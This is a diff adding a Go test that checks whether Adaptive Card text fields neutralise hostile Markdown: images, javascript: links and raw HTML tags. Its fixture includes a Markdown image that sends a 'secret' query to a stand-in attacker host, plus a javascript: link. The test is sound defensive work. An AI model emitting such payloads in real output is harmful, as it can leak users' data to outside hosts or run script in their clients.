@@ -81,6 +81,34 @@ func TestTemplateForms(t *testing.T) {
 	}
 }
 
+// TestCardsLoadNothing: Markdown in a card shows no picture and runs nothing, except where it is shown as it stands.
+func TestCardsLoadNothing(t *testing.T) {
+	t.Parallel()
+	const hostile = `![a](https://evil.example/?q=secret) [b](javascript:alert(1)) [c](https://c.example) <img src=x>`
+	const tame = "a (evil.example) [b]\u200b(javascript:alert(1)) [c](https://c.example) <\u200bimg src=x>"
+	card := func(shown string) string {
+		return `{"type":"AdaptiveCard","version":"1.5","fallbackText":"` + shown + `","body":[
+			{"type":"TextBlock","text":"` + shown + `"},
+			{"text":"` + shown + `","type":"TextBlock"},
+			{"type":"RichTextBlock","inlines":["` + hostile + `",{"type":"TextRun","text":"` + hostile + `"}]},
+			{"type":"FactSet","facts":[{"title":"` + shown + `","value":"` + shown + `"}]},
+			{"type":"Table","rows":[{"type":"TableRow","cells":[{"type":"TableCell","items":[{"type":"TextBlock","text":"` + shown + `"}]}]}]},
+			{"type":"Container","items":[{"type":"Strange","words":"` + shown + `","fallback":{"type":"TextBlock","text":"` + shown + `"}}]},
+			{"type":"Input.Toggle","id":"t","title":"` + shown + `","value":"` + hostile + `"},
+			{"type":"Input.ChoiceSet","id":"c","label":"` + shown + `","errorMessage":"` + shown + `","value":"` + hostile + `",
+				"choices":[{"title":"` + shown + `","value":"` + hostile + `"}]}],
+		"actions":[{"type":"Action.Submit","title":"` + hostile + `","data":{"text":"` + hostile + `"}},
+			{"type":"Action.ShowCard","title":"` + hostile + `","card":{"type":"AdaptiveCard","body":[{"type":"TextBlock","text":"` + shown + `"}]}}]}`
+	}
+	if diff := cmp.Diff(generic(t, []byte(card(tame))), generic(t, sent(t, card(hostile)))); diff != "" {
+		t.Errorf("(-want +got):\n%s", diff)
+	}
+	made := activity.Card{Fallback: "x", Body: []any{activity.TextBlock{Text: hostile}, activity.RichText{{Text: hostile}}}}.Attachment()
+	if got := string(made.Content); strings.Count(got, "![a]") != 1 || strings.Count(got, "a (evil.example)") != 1 {
+		t.Errorf("got %s", got)
+	}
+}
+
 // sent is the content of a card that a handler wrote by hand, as a client gets it.
 func sent(t *testing.T, card string) jsontext.Value {
 	t.Helper()
